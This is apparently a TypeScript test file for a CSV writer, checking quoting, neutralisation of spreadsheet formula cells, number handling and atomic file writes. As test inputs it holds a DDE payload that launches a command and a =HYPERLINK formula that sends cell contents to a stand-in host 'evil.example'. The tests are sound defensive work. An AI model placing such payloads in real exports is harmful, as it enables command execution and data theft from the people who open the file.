import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvField, writeCsvFile } from "../src/csv-writer.js";
import { tempDir } from "./helpers.js";

describe("csvField", () => {
  it("quotes commas, quotes and line breaks, and writes missing values empty", () => {
    expect(csvField('say "hi", then go')).toBe('"say ""hi"", then go"');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect([csvField(null), csvField(undefined), csvField(Number.NaN), csvField("")]).toEqual(["", "", "", ""]);
    expect(csvField("plain")).toBe("plain");
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", '"\'\r=1+1"'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["-", "'-"],
    ["+", "'+"],
    ["-Infinity", "'-Infinity"],
    ["- 12", "'- 12"],
  ])("neutralises %j as a formula", (cell, written) => {
    expect(csvField(cell)).toBe(written);
  });

  it("neutralises a =HYPERLINK cell with quotes and commas, and quotes it", () => {
    const cell = '=HYPERLINK("http://evil.example/?leak="&A1, "Click, please")';
    expect(csvField(cell)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1, ""Click, please"")"`);
  });

  it("keeps numbers numbers: JavaScript numbers, and strings that are plain numbers", () => {
    expect([-12.5, -3, 0, -0.001, 1e21, -1e-7, Number.NEGATIVE_INFINITY].map(csvField)).toEqual(["-12.5", "-3", "0", "-0.001", "1e+21", "-1e-7", "-Infinity"]);
    expect(csvField(-5n)).toBe("-5");
    expect(["-12.5", "+3", "1e5", "-1E-5", "+.5", "-0", "12."].map(csvField)).toEqual(["-12.5", "+3", "1e5", "-1E-5", "+.5", "-0", "12."]);
  });

  it("does not touch text that starts otherwise, even when a formula follows", () => {
    expect([" =1+1", "a=1", "'=1"].map(csvField)).toEqual([" =1+1", "a=1", "'=1"]);
  });

  it("property: no written cell starts a formula unless it is a plain number, and the text follows whole", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom("=", "+", "-", "@", "\t", "\r").chain((c) => fc.string().map((s) => c + s)),
        ),
        (s) => {
          const out = csvField(s);
          const cell = out.startsWith('"') ? out.slice(1, -1).replaceAll('""', '"') : out;
          const plainNumber = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/.test(s);
          if (!plainNumber) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          expect(cell === s || cell === `'${s}`).toBe(true);
        },
      ),
    );
    fc.assert(
      fc.property(fc.double({ noNaN: true }), (n) => {
        expect(csvField(n)).toBe(String(n));
      }),
    );
  });
});

describe("writeCsvFile", () => {
  it("writes the header and rows, neutralised and quoted, and counts the rows", async () => {
    const dir = tempDir();
    const path = join(dir, "out.csv");
    const n = await writeCsvFile(
      path,
      ["id", "note", "amount"],
      [
        ["a", '=HYPERLINK("x","y")', -12.5],
        ["b", "-12.5", null],
      ],
    );
    expect(n).toBe(2);
    expect(readFileSync(path, "utf8")).toBe('id,note,amount\na,"\'=HYPERLINK(""x"",""y"")",-12.5\nb,-12.5,\n');
    expect(readdirSync(dir)).toEqual(["out.csv"]);
  });

  it("writes many blocks", async () => {
    const dir = tempDir();
    const path = join(dir, "big.csv");
    const rows = Array.from({ length: 20_000 }, (_, i) => [i, -i]);
    expect(await writeCsvFile(path, ["i", "neg"], rows)).toBe(20_000);
    const lines = readFileSync(path, "utf8").split("\n");
    expect(lines.length).toBe(20_002);
    expect(lines[20_000]).toBe("19999,-19999");
  });

  function* failing(after: number): Generator<unknown[]> {
    for (let i = 0; i < after; i++) yield [i, `row ${i}`];
    throw new Error("source broke");
  }

  it("leaves no file and no temporary file when the rows fail midway", async () => {
    const dir = tempDir();
    const path = join(dir, "out.csv");
    // Past the first 8,192-line block, so part of the text has reached the disk.
    await expect(writeCsvFile(path, ["i", "text"], failing(20_000))).rejects.toThrow("source broke");
    expect(existsSync(path)).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
  });

  it("leaves an existing file unchanged when the rows fail midway", async () => {
    const dir = tempDir();
    const path = join(dir, "out.csv");
    writeFileSync(path, "old,contents\n");
    await expect(writeCsvFile(path, ["i", "text"], failing(20_000))).rejects.toThrow("source broke");
    expect(readFileSync(path, "utf8")).toBe("old,contents\n");
    expect(readdirSync(dir)).toEqual(["out.csv"]);
  });

  it("replaces an existing file whole on success", async () => {
    const dir = tempDir();
    const path = join(dir, "out.csv");
    writeFileSync(path, "old,contents\nthat,is,longer\n");
    await writeCsvFile(path, ["a"], [[1]]);
    expect(readFileSync(path, "utf8")).toBe("a\n1\n");
    expect(readdirSync(dir)).toEqual(["out.csv"]);
  });

  it("rejects, leaving nothing behind, when the target cannot be written", async () => {
    const dir = tempDir();
    await expect(writeCsvFile(join(dir, "missing", "out.csv"), ["a"], [[1]])).rejects.toThrow(/ENOENT/);
    expect(readdirSync(dir)).toEqual([]);
    const taken = join(dir, "taken");
    mkdirSync(taken);
    await expect(writeCsvFile(taken, ["a"], [[1]])).rejects.toThrow();
    expect(readdirSync(dir)).toEqual(["taken"]);
  });
});
